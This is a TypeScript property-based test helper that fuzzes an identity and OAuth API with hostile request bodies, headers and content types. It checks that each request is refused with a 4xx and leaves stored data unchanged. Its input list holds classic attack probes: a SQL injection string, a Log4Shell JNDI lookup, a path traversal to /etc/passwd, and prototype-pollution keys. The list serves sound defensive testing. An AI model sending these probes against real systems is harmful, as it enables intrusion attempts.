import fc from 'fast-check';
import { expect, inject } from 'vitest';
import { type RouteName, registerAdmin, registerStaff, testApp } from '../../helpers/app';
import { nearRealTime } from '../../helpers/clock';
import { testDeps, uniqueTenant } from '../../helpers/deps';
import { isFailureEnvelope } from '../../helpers/failures';
import { createTable, scanTable } from '../../helpers/isolated-table';
import { newTotpSecret } from '../../helpers/mfa';
import { basic, createClient, FORM, type TestClient } from '../../helpers/oauth';

/**
 * Hostile values mixed with real ones (a real client's id and secret, a
 * real session, the registered redirect URI, a valid PKCE challenge) so that requests
 * get past the first checks, as JSON (prototype keys, duplicate keys), forms (repeated
 * parameters), raw text, huge bodies up to the size limit, and wrong content types, at
 * 1,000 cases per operation. Every answer is a 4xx in the envelope (or in RFC 6749 format
 * for form requests to the token, revocation and introspection endpoints), and nothing
 * changes in the table but the failed-attempt counters (which count rejected attempts by
 * design). Used by mfa.test.ts and oauth.test.ts.
 */
const RUNS = 1000;

/** A generated body as sent: a string as it is, anything else as its JSON. */
export const asText = (value: unknown) => (typeof value === 'string' ? value : (JSON.stringify(value) ?? ''));
/** What the function reads of a body sent as `asText` does: a string that is JSON (`"{}"`) arrives as its value. */
export const asSent = (value: unknown) => {
  if (typeof value !== 'string') return value;
  try {
    return JSON.parse(value);
  } catch {
    return value;
  }
};

const hugeString = fc.integer({ min: 15_000, max: 17_000 }).map((n) => 'é'.repeat(Math.floor(n / 2)));
/**
 * Strings that NFKC makes longer, as the table's keys normalise them:
 * U+FDFA becomes 18 characters, U+3316 6, ligatures (ﬃ, ﬄ) 3, ㍻ and ⑴ 2 to 3, and
 * combining sequences compose or reorder; up to 300 of them, so some stay within a
 * field's length before normalising and outgrow it after.
 */
export const expanding = fc
  .array(
    fc.constantFrom('\uFDFA', '\u3316', '\uFB03', '\uFB04', '\u337B', '\u2474', 'e\u0301', 'a\u0323\u0302', '\u1E9B\u0323', '\uFF21', 'x'),
    {
      minLength: 1,
      maxLength: 300,
    },
  )
  .map((parts) => parts.join(''));
export const nasty = fc.oneof(
  expanding,
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '__proto__',
    'constructor',
    '#',
    'T#x#GRANT#y',
    '%00',
    '\ud800',
    'null',
    'undefined',
    '0',
    '-1',
    '1e309',
    'NaN',
    '{}',
    '[]',
    '<script>',
    "' OR 1=1 --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe, as attackers send it.
    '${jndi:ldap://x}',
    '../../etc/passwd',
    'a.0.b',
    'eyJ.eyJ.x',
  ),
  fc.integer({ min: 100, max: 5_000 }).map((n) => 'x'.repeat(n)),
  hugeString,
);
export const anyValue = fc.oneof(
  nasty,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(nasty, { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.string(), { maxKeys: 3 }),
);
const prototypeKey = fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf');
const contentType = fc.constantFrom(
  FORM,
  `${FORM}; charset=UTF-8`,
  'application/json',
  'application/json; charset=utf-16',
  'text/plain',
  'multipart/form-data; boundary=x',
  'application/xml',
  '',
);

type Fields = Record<string, fc.Arbitrary<unknown>>;

/** A request body: the operation's fields (hostile or real values) in every encoding. */
function body(fields: Fields, required: string[] = [], nearValid?: Record<string, string>) {
  const names = Object.keys(fields).length ? Object.keys(fields) : ['x'];
  const values = fc.record(fields, { requiredKeys: required });
  const asString = (value: unknown) => (typeof value === 'string' ? value : (JSON.stringify(value) ?? ''));
  // A request valid but for one field (changed or left out): these reach the last checks.
  const mutated = nearValid
    ? fc
        .tuple(fc.constantFrom(...Object.keys(nearValid)), fc.option(anyValue, { nil: undefined }), fc.boolean())
        .map(([field, value, asJson]) => {
          const record: Record<string, unknown> = { ...nearValid, [field]: value };
          if (value === undefined) delete record[field];
          return asJson
            ? JSON.stringify(record)
            : new URLSearchParams(Object.entries(record).map(([key, v]): [string, string] => [key, asString(v)])).toString();
        })
    : fc.constant(undefined);
  return fc.oneof(
    { weight: nearValid ? 4 : 0, arbitrary: mutated },
    {
      weight: 4,
      arbitrary: fc.tuple(values, fc.dictionary(prototypeKey, anyValue, { maxKeys: 2 })).map(([record, extra]) => {
        const text = JSON.stringify(record);
        const prefix = Object.entries(extra).map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`);
        return prefix.length ? `{${prefix.join(',')}${text === '{}' ? '' : ','}${text.slice(1)}` : text;
      }),
    },
    {
      weight: 3,
      arbitrary: values.map((record) =>
        new URLSearchParams(Object.entries(record).map(([key, value]): [string, string] => [key, asString(value)])).toString(),
      ),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...names), anyValue, anyValue)
        .map(
          ([field, x, y]) =>
            `{${JSON.stringify(field)}:${JSON.stringify(x) ?? 'null'},${JSON.stringify(field)}:${JSON.stringify(y) ?? 'null'}}`,
        ),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(fc.constantFrom(...names), nasty, nasty).map(([field, x, y]) =>
        new URLSearchParams([
          [field, x],
          [field, y],
        ]).toString(),
      ),
    },
    { weight: 1, arbitrary: fc.jsonValue().map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: nasty },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

export interface Operation {
  route: RouteName;
  fields: () => Fields;
  /** Query parameters (hostile or real values). */
  query?: () => Fields;
  /** Authorization headers to try: none, garbage, real session tokens, real client credentials. */
  authorization: () => fc.Arbitrary<string | undefined>;
  /** Fields always present (so that more requests reach the later checks). */
  required?: string[];
  /** A request valid in shape that fails a late check; cases change or drop one field of it. */
  nearValid?: () => Record<string, string>;
  /** Answers form requests in RFC 6749 format. */
  rfc: boolean;
  /** Successful answers that are right for some of these requests (and change nothing). */
  alsoOk: number[];
}

/** A hostile value, or (as often) a real one, so that many requests get past validation. */
export const realOr = (...real: string[]) =>
  fc.oneof(anyValue, { weight: 3, arbitrary: nasty }, { weight: 6, arbitrary: fc.constantFrom(...real) });

/** Whether an item is a failed-attempt counter: counting rejected attempts is their job. */
const isCounter = (item: Record<string, unknown>) => String(item.pk).includes('#LOGIN#') || String(item.sk).startsWith('ATTEMPTS');

/** An audit event (docs/api.md 9.8): refused sign-ins are recorded by design, so events are checked apart. */
const isAuditEvent = (item: Record<string, unknown>) => String(item.pk).includes('#AUDIT#');

/** An outbox item (docs/events.md): refused sign-ins are published by design, as they are audited. */
const isOutbox = (item: Record<string, unknown>) => String(item.pk).includes('#EVENTS#');

/** The types of the events written since `before` (outbox items by key, with their count): the published side of the refusals. */
export function publishedSince(before: Array<Record<string, unknown>>, after: Array<Record<string, unknown>>): Set<string> {
  const seq = new Map(before.filter(isOutbox).map((item) => [`${item.pk}|${item.sk}`, item.seq]));
  return new Set(
    after
      .filter((item) => isOutbox(item) && seq.get(`${item.pk}|${item.sk}`) !== item.seq)
      .flatMap((item) => (item.events as Array<{ type: string }>).map((event) => event.type)),
  );
}

/** The published events a malformed request may leave: refused sign-ins, and nothing else. */
export const PUBLISHED_REFUSALS = ['identity.login.failed', 'identity.login.locked'];

/** The refusals a malformed request may leave in the audit trail, and nothing else. */
const REFUSALS = [
  'login_failed',
  'login_locked',
  'password_change_failed',
  'reauthentication_failed',
  'password_reset_failed',
  'email_verification_failed',
];

/** An item without the count of wrong codes an MFA method keeps (lib/mfa/code-check.ts): counting them is its job. */
const withoutFailureCount = ({ failedCodes: _counted, ...item }: Record<string, unknown>) => item;

/**
 * A table of its own with a tenant, its ADMIN, a user with TOTP enrolled (not yet
 * verified) and a client allowed every grant: the real values requests are mixed with.
 */
export async function hostileTenant(tableName: string) {
  const endpoint = inject('dynamodbEndpoint');
  await createTable(endpoint, tableName);
  const deps = await testDeps({ TABLE_NAME: tableName });
  nearRealTime(deps);
  const app = testApp(deps);
  const tenantId = uniqueTenant('hostile');
  const admin = await registerAdmin(app, tenantId);
  const adminToken = admin.token;
  const totpUser = await registerStaff(app, adminToken, {
    username: 'totp-user',
    password: 'correct horse battery',
    role: 'OPERATOR',
    tenantId,
  });
  const totpUserToken = totpUser.token;
  expect((await app.request('enableMFA', { token: totpUserToken, body: { method: 'TOTP', secret: newTotpSecret() } })).status).toBe(200);
  const client: TestClient = await createClient(app, adminToken, tenantId);
  return {
    app,
    /** The deps of `app` (its test clock, for TOTP codes). */
    deps,
    adminToken,
    client,
    /** The table but for the failed-attempt counters. */
    snapshot: async () =>
      (await scanTable(endpoint, tableName))
        .filter((item) => !isCounter(item) && !isAuditEvent(item) && !isOutbox(item))
        .map(withoutFailureCount),
    /** The outbox items of the table (refused sign-ins are published by design). */
    outbox: async () => (await scanTable(endpoint, tableName)).filter(isOutbox),
    /** The audit events of the table (refusals are recorded by design). */
    events: async () => (await scanTable(endpoint, tableName)).filter(isAuditEvent),
    /** Session tokens: none, real ones (often), garbage. */
    sessions: () =>
      fc.option(
        fc.oneof(
          { weight: 6, arbitrary: fc.constantFrom(`Bearer ${adminToken}`, `Bearer ${totpUserToken}`) },
          fc.string().map((s) => `Bearer ${s}`),
          fc.string(),
        ),
        { nil: undefined, freq: 5 },
      ),
    /** Client credentials: none, the real ones, a real id with a hostile secret, garbage, a session token. */
    clientAuth: () =>
      fc.option(
        fc.oneof(
          fc.constant(basic(client.clientId, client.clientSecret)),
          fc
            .tuple(fc.oneof(nasty, fc.constant(client.clientId)), nasty)
            .map(([id, secret]) => `Basic ${Buffer.from(`${id}:${secret}`, 'utf8').toString('base64')}`),
          fc.string().map((s) => `Basic ${Buffer.from(s).toString('base64')}`),
          fc.string().map((s) => `Basic ${s}`),
          fc.constant(`Bearer ${adminToken}`),
          fc.string(),
        ),
        { nil: undefined },
      ),
  };
}

export type HostileTenant = Awaited<ReturnType<typeof hostileTenant>>;

/** Sends RUNS hostile requests for the operation: each answered with a 4xx (or an `alsoOk`), the table unchanged. */
export async function assertRefusesHostileRequests(tenant: HostileTenant, operation: Operation) {
  const before = await tenant.snapshot();
  const eventsBefore = new Set((await tenant.events()).map((event) => event.id));
  const outboxBefore = await tenant.outbox();
  const statuses = new Map<number, number>();
  const errors = new Map<string, number>();
  await fc.assert(
    fc.asyncProperty(
      body(operation.fields(), operation.required, operation.nearValid?.()),
      contentType,
      operation.authorization(),
      fc.option(fc.record(operation.query?.() ?? { x: anyValue }, { requiredKeys: [] }), { nil: undefined }),
      async (text, type, authorization, query) => {
        const queryStrings =
          query &&
          Object.fromEntries(
            Object.entries(query).map(([key, value]) => [
              key,
              (typeof value === 'string' ? value : (JSON.stringify(value) ?? '')).slice(0, 3000),
            ]),
          );
        const response = await tenant.app.request(operation.route, {
          ...(text === undefined ? {} : { body: text }),
          headers: { ...(type ? { 'content-type': type } : {}), ...(authorization ? { authorization } : {}) },
          ...(queryStrings ? { query: queryStrings } : {}),
        });
        statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
        if (process.env.SHOW_ERRORS)
          errors.set(
            String(response.body?.error_description ?? response.body?.error).slice(0, 60),
            (errors.get(String(response.body?.error_description ?? response.body?.error).slice(0, 60)) ?? 0) + 1,
          );
        expect(response.status).toBeLessThan(500);
        if (operation.alsoOk.includes(response.status)) return;
        expect(response.status).toBeGreaterThanOrEqual(400);
        if (operation.rfc && type.startsWith(FORM)) {
          expect(response.body).toEqual({
            error: expect.stringMatching(/^[a-z_]+$/),
            error_description: expect.stringMatching(/^[\x20-\x21\x23-\x5B\x5D-\x7E]+$/),
          });
        } else {
          expect(isFailureEnvelope(response.body), JSON.stringify(response.body)).toBe(true);
          expect(response.body.error).not.toMatch(/\n\s+at /);
        }
        expect(response.headers.Location).toBeUndefined();
      },
    ),
    { numRuns: RUNS },
  );
  expect(await tenant.snapshot()).toEqual(before);
  const added = (await tenant.events()).filter((event) => !eventsBefore.has(event.id));
  expect(added.filter((event) => event.outcome !== 'failure' || !REFUSALS.includes(String(event.type)))).toEqual([]);
  expect([...publishedSince(outboxBefore, await tenant.outbox())].filter((type) => !PUBLISHED_REFUSALS.includes(type))).toEqual([]);
  if (process.env.SHOW_COUNTS) console.log(operation.route, Object.fromEntries(statuses), Object.fromEntries(errors));
  // The cases reached more than the first check: several distinct refusals.
  expect(statuses.size).toBeGreaterThan(1);
}
